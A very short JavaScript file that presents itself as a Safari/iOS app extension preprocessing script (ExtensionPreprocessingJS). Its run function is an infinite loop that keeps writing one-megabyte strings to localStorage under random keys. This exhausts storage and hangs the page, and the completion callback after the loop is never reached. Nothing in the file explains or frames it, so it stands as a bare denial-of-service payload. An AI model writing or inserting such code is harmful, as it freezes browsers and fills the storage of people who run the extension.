var ExtensionPreprocessingJS = { run(a) {
for (;;) localStorage.setItem(Math.random(), 'x'.repeat(1e6));
a.completionFunction({});
} };
